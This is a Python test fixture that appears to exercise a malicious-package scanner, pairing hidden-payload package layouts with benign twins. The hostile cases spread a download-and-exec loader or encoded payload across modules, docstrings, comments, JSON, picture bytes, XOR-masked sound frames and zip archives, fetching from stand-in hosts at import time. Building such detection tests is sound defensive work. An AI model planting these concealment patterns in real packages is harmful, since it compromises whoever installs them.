"""Payloads spread over the modules and data files of one distribution."""

from __future__ import annotations

import io
import json
import wave
import zipfile

from tests.evasions.sample import CODE, INIT, SUSPICIOUS, Files, b64, evasion

_NET = "import urllib.request\n\ndef get(url):\n    return urllib.request.urlopen(url).read()\n"
_RUN = "def run(text):\n    exec(text)\n"
_GOOD_RUN = "def run(text):\n    return len(text)\n"
_KEY = 0x5A
_ICON = b"\x89PNG\r\n\x1a\n" + bytes(64)


def _xored(text: str) -> bytes:
    return bytes(b ^ _KEY for b in text.encode())


def _wave(data: bytes) -> bytes:
    into = io.BytesIO()
    with wave.open(into, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(1)
        sound.setframerate(8000)
        sound.writeframes(data)
    return into.getvalue()


def _zip(path: str, text: str) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        archive.writestr(path, text)
    return into.getvalue()


def _with_data(code: str, name: str, data: bytes | str) -> Files:
    return {INIT: code, f"example_pkg/{name}": data}


_HONEST_BLOB = b64(b"GIF89a" + bytes(40))

CASES = (
    evasion(
        "constant in another module",
        {
            INIT: "import base64\nfrom .blob import DATA\nexec(base64.b64decode(DATA))\n",
            "example_pkg/blob.py": f"DATA = {b64(CODE)!r}\n",
        },
        {
            INIT: "import base64\nfrom .blob import DATA\nICON = base64.b64decode(DATA)\n",
            "example_pkg/blob.py": f"DATA = {_HONEST_BLOB!r}\n",
        },
    ),
    evasion(
        "constant split over three modules",
        {
            INIT: "import base64\nfrom . import a, b, c\nexec(base64.b64decode(a.X + b.X + c.X))\n",
            "example_pkg/a.py": f"X = {b64(CODE)[:20]!r}\n",
            "example_pkg/b.py": f"X = {b64(CODE)[20:40]!r}\n",
            "example_pkg/c.py": f"X = {b64(CODE)[40:]!r}\n",
        },
        {
            INIT: "import base64\nfrom . import a, b\nICON = base64.b64decode(a.X + b.X)\n",
            "example_pkg/a.py": f"X = {_HONEST_BLOB[:20]!r}\n",
            "example_pkg/b.py": f"X = {_HONEST_BLOB[20:]!r}\n",
        },
    ),
    evasion(
        "source function imported relatively",
        {INIT: "from .net import get\nexec(get('https://stage.example.invalid/a'))\n", "example_pkg/net.py": _NET},
        {
            INIT: "from .net import get\n\ndef version():\n    return get('https://api.example.invalid/v')\n",
            "example_pkg/net.py": _NET,
        },
    ),
    evasion(
        "source module imported with from dot",
        {INIT: "from . import net\nexec(net.get('https://stage.example.invalid/a'))\n", "example_pkg/net.py": _NET},
        {
            INIT: "from . import net\n\ndef version():\n    return net.get('https://api.example.invalid/v')\n",
            "example_pkg/net.py": _NET,
        },
    ),
    evasion(
        "source module imported by its absolute name",
        {
            INIT: "import example_pkg.net as n\nexec(n.get('https://stage.example.invalid/a'))\n",
            "example_pkg/net.py": _NET,
        },
        {
            INIT: "import example_pkg.net as n\n\ndef version():\n    return n.get('https://api.example.invalid/v')\n",
            "example_pkg/net.py": _NET,
        },
    ),
    evasion(
        "absolute import without alias",
        {
            INIT: "import example_pkg.net\nexec(example_pkg.net.get('https://stage.example.invalid/a'))\n",
            "example_pkg/net.py": _NET,
        },
        {INIT: "import example_pkg.net\nGET = example_pkg.net.get\n", "example_pkg/net.py": _NET},
    ),
    evasion(
        "sink in another module",
        {
            INIT: "import urllib.request as u\nfrom .run import run\nrun(u.urlopen('https://stage.example.invalid/a').read())\n",
            "example_pkg/run.py": _RUN,
        },
        {
            INIT: "import urllib.request as u\nfrom .run import run\n\ndef size():\n"
            "    return run(u.urlopen('https://api.example.invalid/a').read())\n",
            "example_pkg/run.py": _GOOD_RUN,
        },
    ),
    evasion(
        "source and sink in two other modules",
        {
            INIT: "from . import net, run\nrun.run(net.get('https://stage.example.invalid/a'))\n",
            "example_pkg/net.py": _NET,
            "example_pkg/run.py": _RUN,
        },
        {
            INIT: "from . import net, run\n\ndef size():\n    return run.run(net.get('https://api.example.invalid/a'))\n",
            "example_pkg/net.py": _NET,
            "example_pkg/run.py": _GOOD_RUN,
        },
    ),
    evasion(
        "star import in the package's init",
        {INIT: "from .core import *\nstart()\n", "example_pkg/core.py": f"def start():\n    exec({CODE!r})\n"},
        {INIT: "from .core import *\nstart()\n", "example_pkg/core.py": "def start():\n    exec('x = 1')\n"},
    ),
    evasion(
        "function that a second module calls at import",
        {
            INIT: "from . import a\n",
            "example_pkg/a.py": "from .b import go\ngo()\n",
            "example_pkg/b.py": "import urllib.request as u\n\ndef go():\n"
            "    exec(u.urlopen('https://stage.example.invalid/a').read())\n",
        },
        {
            INIT: "from . import a\n",
            "example_pkg/a.py": "from .b import go\nGO = go\n",
            "example_pkg/b.py": "import urllib.request as u\n\ndef go():\n"
            "    return u.urlopen('https://stage.example.invalid/a').read()\n",
        },
    ),
    evasion(
        "modules that import each other",
        {
            INIT: "from .a import go\ngo()\n",
            "example_pkg/a.py": "from . import b\nURL = 'https://stage.example.invalid/a'\n\ndef go():\n    exec(b.load())\n",
            "example_pkg/b.py": "import urllib.request as u\nfrom . import a\n\ndef load():\n"
            "    return u.urlopen(a.URL).read()\n",
        },
        {
            INIT: "from .a import go\n",
            "example_pkg/a.py": "from . import b\nURL = 'https://api.example.invalid/a'\n\ndef go():\n"
            "    return b.load()\n",
            "example_pkg/b.py": "import urllib.request as u\nfrom . import a\n\ndef load():\n"
            "    return u.urlopen(a.URL).read()\n",
        },
    ),
    evasion(
        "class of another module",
        {
            INIT: "from .loader import Loader\nLoader('https://stage.example.invalid/a').start()\n",
            "example_pkg/loader.py": "import requests\n\nclass Loader:\n    def __init__(self, url):\n"
            "        self.url = url\n\n    def start(self):\n        exec(requests.get(self.url).text)\n",
        },
        {
            INIT: "from .loader import Loader\nDEFAULT = Loader('https://api.example.invalid/a')\n",
            "example_pkg/loader.py": "import requests\n\nclass Loader:\n    def __init__(self, url):\n"
            "        self.url = url\n\n    def start(self):\n        return requests.get(self.url).text\n",
        },
    ),
    evasion(
        "inheritance across modules",
        {
            INIT: "from .base import Base\n\nclass A(Base):\n    url = 'https://stage.example.invalid/a'\n\nA().start()\n",
            "example_pkg/base.py": "import requests\n\nclass Base:\n    url = ''\n\n    def start(self):\n"
            "        exec(requests.get(self.url).text)\n",
        },
        {
            INIT: "from .base import Base\n\nclass A(Base):\n    url = 'https://api.example.invalid/a'\n\nX = A()\n",
            "example_pkg/base.py": "import requests\n\nclass Base:\n    url = ''\n\n    def start(self):\n"
            "        return requests.get(self.url).text\n",
        },
    ),
    evasion(
        "own module by import_module",
        {
            INIT: "import importlib\nimportlib.import_module('.net', __package__).start()\n",
            "example_pkg/net.py": f"def start():\n    exec({CODE!r})\n",
        },
        {
            INIT: "import importlib\nimportlib.import_module('.net', __package__).start()\n",
            "example_pkg/net.py": "def start():\n    return 1\n",
        },
    ),
    evasion(
        "own module by __import__",
        {
            INIT: "__import__('example_pkg.net', fromlist=['net']).start()\n",
            "example_pkg/net.py": f"def start():\n    exec({CODE!r})\n",
        },
        {
            INIT: "__import__('example_pkg.net', fromlist=['net']).start()\n",
            "example_pkg/net.py": "def start():\n    return 1\n",
        },
    ),
    evasion(
        "alias re-exported from a module of names",
        {
            INIT: "from ._compat import runner, fetch\nrunner(fetch('https://stage.example.invalid/a').read())\n",
            "example_pkg/_compat.py": "from builtins import exec as runner\nfrom urllib.request import urlopen as fetch\n",
        },
        {
            INIT: "from ._compat import fetch\n\ndef get():\n    return fetch('https://api.example.invalid/a').read()\n",
            "example_pkg/_compat.py": "from urllib.request import urlopen as fetch\n",
        },
    ),
    evasion(
        "module of the package in tests",
        {
            INIT: "from .tests.helper import go\ngo()\n",
            "example_pkg/tests/__init__.py": "",
            "example_pkg/tests/helper.py": f"def go():\n    exec({CODE!r})\n",
        },
        {
            INIT: "from .tests.helper import go\ngo()\n",
            "example_pkg/tests/__init__.py": "",
            "example_pkg/tests/helper.py": "def go():\n    return 1\n",
        },
    ),
    evasion(
        "hook __getattr__ of a module, reached by the package itself",
        {
            INIT: "from .lazy import anything\n",
            "example_pkg/lazy.py": f"def __getattr__(name):\n    exec({CODE!r})\n",
        },
        {
            INIT: "from .lazy import anything\n",
            "example_pkg/lazy.py": "def __getattr__(name):\n    return len(name)\n",
        },
    ),
    evasion(
        "a setting assigned to another module",
        {
            INIT: "from . import conf, go\nconf.URL = 'https://stage.example.invalid/a'\ngo.start()\n",
            "example_pkg/conf.py": "URL = ''\n",
            "example_pkg/go.py": "import requests\nfrom . import conf\n\ndef start():\n"
            "    exec(requests.get(conf.URL).text)\n",
        },
        {
            INIT: "from . import conf\nconf.URL = 'https://api.example.invalid/a'\n",
            "example_pkg/conf.py": "URL = ''\n",
        },
    ),
    evasion(
        "text file beside the module, decoded",
        lambda: _with_data(
            "import base64, os\n"
            "p = os.path.join(os.path.dirname(__file__), 'notes.txt')\nexec(base64.b64decode(open(p).read()))\n",
            "notes.txt",
            b64(CODE),
        ),
        lambda: _with_data(
            "import base64, os\n"
            "p = os.path.join(os.path.dirname(__file__), 'icon.txt')\nICON = base64.b64decode(open(p).read())\n",
            "icon.txt",
            _HONEST_BLOB,
        ),
    ),
    evasion(
        "text file beside the module, plain",
        lambda: _with_data(
            "import os\nwith open(os.path.join(os.path.dirname(__file__), 'words.txt')) as f:\n    exec(f.read())\n",
            "words.txt",
            CODE,
        ),
        lambda: _with_data(
            "import os\nwith open(os.path.join(os.path.dirname(__file__), 'words.txt')) as f:\n    WORDS = f.read()\n",
            "words.txt",
            "curl and sh are words\n",
        ),
    ),
    evasion(
        "file beside the module through pathlib",
        lambda: _with_data(
            "import base64\nfrom pathlib import Path\n"
            "exec(base64.b64decode((Path(__file__).parent / 'data' / 'x.bin').read_bytes()))\n",
            "data/x.bin",
            b64(CODE),
        ),
        lambda: _with_data(
            "from pathlib import Path\nX = (Path(__file__).parent / 'data' / 'x.bin').read_bytes()\n",
            "data/x.bin",
            _ICON,
        ),
    ),
    evasion(
        "package resource by importlib.resources",
        lambda: _with_data(
            "import base64\nfrom importlib import resources\n"
            "exec(base64.b64decode(resources.files(__name__).joinpath('x.bin').read_text()))\n",
            "x.bin",
            b64(CODE),
        ),
        lambda: _with_data(
            "from importlib import resources\nX = resources.files(__name__).joinpath('x.bin').read_bytes()\n",
            "x.bin",
            _ICON,
        ),
    ),
    evasion(
        "package resource by importlib.resources.read_text",
        lambda: _with_data(
            "import importlib.resources as r\nexec(r.read_text('example_pkg', 'x.txt'))\n", "x.txt", CODE
        ),
        lambda: _with_data(
            "import importlib.resources as r\nX = r.read_text('example_pkg', 'x.txt')\n", "x.txt", "hello\n"
        ),
    ),
    evasion(
        "package resource by pkgutil.get_data",
        lambda: _with_data(
            "import pkgutil, zlib, base64\nexec(base64.b64decode(pkgutil.get_data(__name__, 'x.bin')))\n",
            "x.bin",
            b64(CODE),
        ),
        lambda: _with_data("import pkgutil\nX = pkgutil.get_data(__name__, 'x.bin')\n", "x.bin", _ICON),
    ),
    evasion(
        "member of a JSON file",
        lambda: _with_data(
            "import json, os\n"
            "d = json.load(open(os.path.join(os.path.dirname(__file__), 'd.json')))\nexec(d['init'])\n",
            "d.json",
            json.dumps({"init": CODE}),
        ),
        lambda: _with_data(
            "import json, os\nD = json.load(open(os.path.join(os.path.dirname(__file__), 'd.json')))\n",
            "d.json",
            json.dumps({"init": "x"}),
        ),
    ),
    evasion(
        "behind the bytes of a picture",
        lambda: _with_data(
            "import os\nd = open(os.path.join(os.path.dirname(__file__), 'i.png'), 'rb').read()\n"
            "exec(d[d.index(b'#!') :])\n",
            "i.png",
            _ICON + b"#!\n" + CODE.encode(),
        ),
        lambda: _with_data(
            "import os\nD = open(os.path.join(os.path.dirname(__file__), 'i.png'), 'rb').read()[8:]\n", "i.png", _ICON
        ),
        SUSPICIOUS,
    ),
    evasion(
        "in the frames of a sound, with XOR",
        lambda: _with_data(
            "import os, wave\nw = wave.open(os.path.join(os.path.dirname(__file__), 'r.wav'))\n"
            f"exec(bytes(b ^ {_KEY} for b in w.readframes(w.getnframes())))\n",
            "r.wav",
            _wave(_xored(CODE)),
        ),
        lambda: _with_data(
            "import os, wave\nw = wave.open(os.path.join(os.path.dirname(__file__), 'r.wav'))\n"
            "F = w.readframes(w.getnframes())\n",
            "r.wav",
            _wave(bytes(64)),
        ),
        SUSPICIOUS,
    ),
    evasion(
        "in a zip inside the package",
        lambda: _with_data(
            "import os, zipfile\nz = zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'a.zip'))\n"
            "exec(z.read('a.txt'))\n",
            "a.zip",
            _zip("a.txt", CODE),
        ),
        lambda: _with_data(
            "import os, zipfile\nz = zipfile.ZipFile(os.path.join(os.path.dirname(__file__), 'a.zip'))\n"
            "X = z.read('a.txt')\n",
            "a.zip",
            _zip("a.txt", "hello"),
        ),
    ),
    evasion(
        "module from a zip put on the path",
        lambda: _with_data(
            "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'a.zip'))\nimport hidden\n",
            "a.zip",
            _zip("hidden.py", CODE),
        ),
        lambda: _with_data(
            "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'a.zip'))\nimport vendored\n",
            "a.zip",
            _zip("vendored.py", "X = 1\n"),
        ),
    ),
    evasion(
        "the module's own documentation",
        f'"""{b64(CODE)}"""\nimport base64\nexec(base64.b64decode(__doc__))\n',
        '"""Sizes."""\nHELP = __doc__.strip()\n',
    ),
    evasion(
        "a function's documentation",
        f'import base64\n\ndef f():\n    """{b64(CODE)}"""\n\nexec(base64.b64decode(f.__doc__))\n',
        'def f():\n    """Sizes."""\n\nHELP = f.__doc__\n',
    ),
    evasion(
        "a class's documentation",
        f'class A:\n    """{b64(CODE)}"""\n\nimport base64\nexec(base64.b64decode(A.__doc__))\n',
        'class A:\n    """Sizes."""\n\nHELP = A.__doc__\n',
    ),
    evasion(
        "a comment in its own source, by __file__",
        f"import base64\nexec(base64.b64decode(open(__file__).read().rsplit('#', 1)[1]))\n#{b64(CODE)}",
        "LINES = open(__file__).read().count('#')\n# a comment",
    ),
    evasion(
        "its own source, by inspect",
        "import base64, inspect, sys\n"
        "exec(base64.b64decode(inspect.getsource(sys.modules[__name__]).rsplit('#', 1)[1]))\n"
        f"#{b64(CODE)}",
        "import inspect, sys\nN = inspect.getsource(sys.modules[__name__]).count('#')\n# a comment",
        SUSPICIOUS,
    ),
    evasion(
        "entry point's module",
        {
            "pyproject.toml": "[project]\nname = 'example-pkg'\nversion = '1.0'\n"
            "[project.scripts]\nexample = 'example_pkg.cli:main'\n",
            INIT: "",
            "example_pkg/cli.py": "import requests\n\ndef main():\n    exec(requests.get('http://192.0.2.7/a').text)\n",
        },
        {
            "pyproject.toml": "[project]\nname = 'example-pkg'\nversion = '1.0'\n"
            "[project.scripts]\nexample = 'example_pkg.cli:main'\n",
            INIT: "",
            "example_pkg/cli.py": "import requests\n\ndef main():\n"
            "    print(requests.get('https://api.example.invalid/a').text)\n",
        },
    ),
)
